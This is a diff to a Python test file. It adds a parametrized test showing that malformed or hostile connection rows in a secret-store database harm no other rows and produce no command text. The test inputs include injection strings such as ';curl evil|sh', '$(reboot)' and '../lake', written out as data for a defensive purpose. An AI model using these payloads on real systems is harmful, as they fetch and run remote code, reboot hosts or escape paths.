@@ -234,6 +234,59 @@ def test_a_row_that_somebody_else_wrote_harms_none_of_the_others(
     assert [entry.refused for entry in plan(shop)] == [None, None, None]
 
 
+def insert(db: Database, **columns: Any) -> None:
+    """A row of the environment shop/default, as somebody writes it who can write to the database."""
+    row = {"id": "h" * 32, "role": "source", "name": "odd", "kind": "s3", "settings": json.dumps(S3), **columns}
+    row |= {"environment_id": vault.get_environment(db, "shop", "default").id, "at": utc_now(), "by": "eve"}
+    with db.writing() as session:
+        statement = """
+        INSERT INTO secretstore_connection
+               (id, environment_id, role, name, kind, settings, created_at, created_by, updated_at, updated_by)
+        VALUES (:id, :environment_id, :role, :name, :kind, :settings, :at, :by, :at, :by)"""
+        session.execute(text(statement), row)
+
+
+def refers_to(secret: Any) -> dict[str, str]:
+    return {"settings": json.dumps({"bucket": "b", "credentials": {"$secret": secret}})}
+
+
+@pytest.mark.parametrize(
+    "columns",
+    [
+        refers_to(None),
+        refers_to("\ud800"),
+        refers_to(";curl evil|sh"),
+        {"role": "sink"},
+        {"role": ""},
+        {"kind": "s" * 1_000_000},
+        {"name": ""},
+        {"name": "../lake"},
+        {"name": "a]\n[b"},
+        {"name": "$(reboot)"},
+        {"name": "n" * 1_000_000},
+        {"name": b"lake"},
+        {"kind": b"s3"},
+    ],
+    ids=lambda columns: next(f"{name} {str(value)[:40]!r}" for name, value in columns.items()),
+)
+def test_an_odd_row_harms_none_of_the_others(
+    shop: Database, source: ConnectionView, actor: Actor, columns: dict[str, Any]
+) -> None:
+    """Runs are planned, and all is listed and checked; what it is called moves no cursor and is no command."""
+    if any(isinstance(value, bytes) for value in columns.values()) and shop.dialect != "sqlite":
+        pytest.skip("only SQLite keeps bytes where text belongs")
+    insert(shop, **columns)
+    entries = [Planned.from_json(json.loads(json.dumps(entry.to_json()))) for entry in plan(shop)]
+    assert [entry.key for entry in entries if entry.refused is None] == ["source/lake"]
+    for entry in entries:
+        assert len(entry.key) < 100 and "\n" not in f"{entry.label}: {entry.refused}"
+    assert "lake" in {view.name for view in vault.list_connections(shop, "shop")}
+    for found in vault.dangling(shop):
+        assert "curl" not in found.mend and "create $(" not in found.mend
+    with pytest.raises(UnknownSecret):
+        vault.delete_secret(shop, "shop", "default", "NOT_THERE", actor=actor)
+
+
 def test_a_test_is_kept_with_what_it_tested(shop: Database, source: ConnectionView, actor: Actor) -> None:
     """Outcome, time and words, cut to size; that of settings replaced meanwhile is not."""
     test: Any = {"seconds": 1.25, "run": "a" * 32, "actor": actor}
